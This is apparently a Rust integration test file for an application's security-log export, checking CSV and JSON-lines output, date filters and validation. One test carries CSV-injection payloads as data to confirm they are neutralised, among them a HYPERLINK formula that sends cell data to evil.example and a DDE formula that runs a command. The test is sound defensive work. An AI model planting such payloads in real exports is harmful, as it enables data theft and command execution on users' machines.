//! What stands in the file.

use super::{EXPORT, events, everything};
use crate::both;
use crate::support::{PASSWORD, Reply, TestApp};
use portcullis::features::security_log::export::FIELDS;
use std::collections::BTreeMap;

const MIRA: &str = "mira@example.com";

/// The rows of a CSV file, by the names of their fields.
pub fn table(reply: &Reply) -> Vec<BTreeMap<String, String>> {
    let mut reader = csv::Reader::from_reader(reply.body.as_bytes());
    let head = reader.headers().unwrap().clone();
    assert_eq!(
        head.iter().collect::<Vec<_>>(),
        FIELDS.iter().map(|it| it.name).collect::<Vec<_>>()
    );
    reader
        .records()
        .map(|row| {
            let row = row.unwrap();
            head.iter().map(str::to_owned).zip(row.iter().map(str::to_owned)).collect()
        })
        .collect()
}

both!(csv_and_json_lines_hold_the_same, async |app: TestApp| {
    app.account(MIRA).await;
    let mut mira = app.browser();
    mira.signs_in(MIRA, PASSWORD).await;
    app.wait(std::time::Duration::from_secs(1));
    mira.get(EXPORT).await.shows("Download security log for audit purposes.");
    let reply = mira.post(EXPORT, &everything("csv")).await;
    let header = |name: &str| reply.headers[name].to_str().unwrap().to_owned();
    assert_eq!(header("content-type"), "text/csv; charset=utf-8; header=present");
    let name = "attachment; filename=\"security-log-2026-11-24.csv\"";
    assert_eq!(header("content-disposition"), name);
    assert_eq!(header("cache-control"), "no-store");
    assert!(reply.body.ends_with("\r\n"));
    let rows = table(&reply);
    let kinds: Vec<&str> = rows.iter().map(|row| row["kind"].as_str()).collect();
    assert_eq!(kinds, ["account-created", "sign-in"]);
    assert_eq!(rows[1]["address"], mira.address.to_string());
    assert_eq!(rows[1]["user_agent"], mira.user_agent);
    assert_eq!(rows[1]["occurred_at"], "2026-11-24T09:00:00.000Z");
    assert_eq!((rows[1]["area"].as_str(), rows[1]["result"].as_str()), ("sign-ins", "succeeded"));
    assert_eq!(rows[1]["leaf_hash"].len(), 64);

    app.wait(std::time::Duration::from_secs(1));
    let reply = mira.post(EXPORT, &everything("jsonl")).await;
    let lines: Vec<serde_json::Value> =
        reply.body.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    // The first export is in the second, and has told what it was.
    assert_eq!(lines.len(), 3);
    let detail = "format=csv from=start until=2026-11-24T09:00:01Z areas=all events=2";
    assert_eq!((&lines[2]["kind"], &lines[2]["detail"]), (&"log-exported".into(), &detail.into()));
    for (row, line) in rows.iter().zip(&lines) {
        assert_eq!(row.len(), line.as_object().unwrap().len());
        for (name, cell) in row {
            assert_eq!(line[name].as_str().unwrap_or(""), cell, "{name}");
        }
    }
});

both!(period_and_kinds_choose, async |app: TestApp| {
    app.account(MIRA).await;
    let mut mira = app.browser();
    mira.signs_in(MIRA, PASSWORD).await;
    app.wait(std::time::Duration::from_hours(48));
    let mut mira = app.browser();
    mira.signs_in(MIRA, PASSWORD).await;
    mira.get(EXPORT).await.is(200);
    let mut count = async |more: &[(&str, &str)], kinds: &[&str]| {
        let mut fields = vec![("format", "csv")];
        fields.extend_from_slice(more);
        let boxes: Vec<String> = kinds.iter().map(|kind| format!("area-{kind}")).collect();
        fields.extend(boxes.iter().map(|name| (name.as_str(), "yes")));
        table(mira.post(EXPORT, &fields).await.is(200)).len()
    };
    assert_eq!(count(&[], &["sign-ins"]).await, 1);
    app.wait(std::time::Duration::from_secs(1));
    assert_eq!(count(&[], &["sign-ins"]).await, 2);
    assert_eq!(count(&[], &["sign-ins", "account"]).await, 4);
    assert_eq!(count(&[("from", "2026-11-25")], &["sign-ins"]).await, 1);
    assert_eq!(count(&[("until", "2026-11-24")], &["sign-ins"]).await, 1);
    assert_eq!(count(&[("until", "2026-11-23")], &["sign-ins"]).await, 0);
    let both_ends = [("from", "2026-11-24"), ("until", "2026-11-24")];
    assert_eq!(count(&both_ends, &["sign-ins"]).await, 1);
    for wrong in [("from", "tomorrow"), ("until", "2026-13-01"), ("from", "2026-11-24T00:00")] {
        let fields = [("format", "csv"), ("area-sign-ins", "yes"), wrong];
        mira.post(EXPORT, &fields).await.is(422).shows("Enter a date as year-month-day.");
    }
    let backwards = [("from", "2026-11-25"), ("until", "2026-11-24"), ("area-email", "yes")];
    let fields = [&[("format", "csv")], &backwards[..]].concat();
    mira.post(EXPORT, &fields).await.is(422).shows("The last day is before the first.");
    mira.post(EXPORT, &[("format", "csv")]).await.is(422).shows("Choose at least one.");
    let fields = everything("xlsx");
    mira.post(EXPORT, &fields).await.is(422).shows("Choose one of these formats.");
});

// LG-07, and OWASP's CSV injection: what a stranger has sent is no formula in a
// spreadsheet, and never ends a row.
both!(lg_07_strangers_write_no_formulas, async |app: TestApp| {
    app.account(MIRA).await;
    let nasty = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
        "+1+1",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\u{ff1d}1+1",
        "plain, with \"quotes\" and a comma",
    ];
    let mut mira = app.browser();
    mira.signs_in(MIRA, PASSWORD).await;
    for agent in nasty {
        let mut stranger = app.browser();
        stranger.user_agent = agent.into();
        stranger.sign_in(MIRA, "wrong").await;
    }
    app.wait(std::time::Duration::from_secs(1));
    mira.get(EXPORT).await;
    let fields = [("format", "csv"), ("area-sign-ins", "yes")];
    let rows = table(mira.post(EXPORT, &fields).await.is(200));
    assert_eq!(rows.len(), nasty.len() + 1);
    for (row, agent) in rows.iter().skip(1).zip(nasty) {
        let formula = !agent.starts_with("plain");
        let expected = if formula { format!("'{agent}") } else { agent.to_owned() };
        assert_eq!(row["user_agent"], expected);
        for cell in row.values() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']), "{cell}");
        }
    }
});

both!(a_long_log_is_sent_while_it_is_read, async |app: TestApp| {
    let account = app.account(MIRA).await;
    events(&app, account.id, 2_300).await;
    let mut mira = app.browser();
    mira.signs_in(MIRA, PASSWORD).await;
    app.wait(std::time::Duration::from_secs(1));
    mira.get(EXPORT).await;
    let reply = mira.post(EXPORT, &everything("csv")).await;
    assert!(!reply.headers.contains_key("content-length"));
    let rows = table(&reply);
    assert_eq!(rows.len(), 2_302);
    let mut ids: Vec<&String> = rows.iter().map(|row| &row["id"]).collect();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), 2_302);
});
